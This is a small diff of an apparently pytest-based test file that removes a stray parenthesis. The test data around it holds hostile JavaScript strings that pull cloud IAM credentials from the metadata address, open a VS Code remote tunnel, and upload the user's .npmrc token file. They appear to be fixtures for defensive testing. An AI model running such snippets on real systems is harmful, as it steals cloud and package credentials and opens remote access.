@@ -51,7 +51,6 @@ def fault(reason: str) -> pytest.MarkDecorator:
             "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
             ".then((r) => r.text()).then((t) => post(t));"
         ),
-        ),
         "cp.exec('code tunnel --accept-server-license-terms', (e, out) => post(out));",
         (
             "const form = new FormData(); form.append('f', fs.createReadStream(home + '/.npmrc'));"
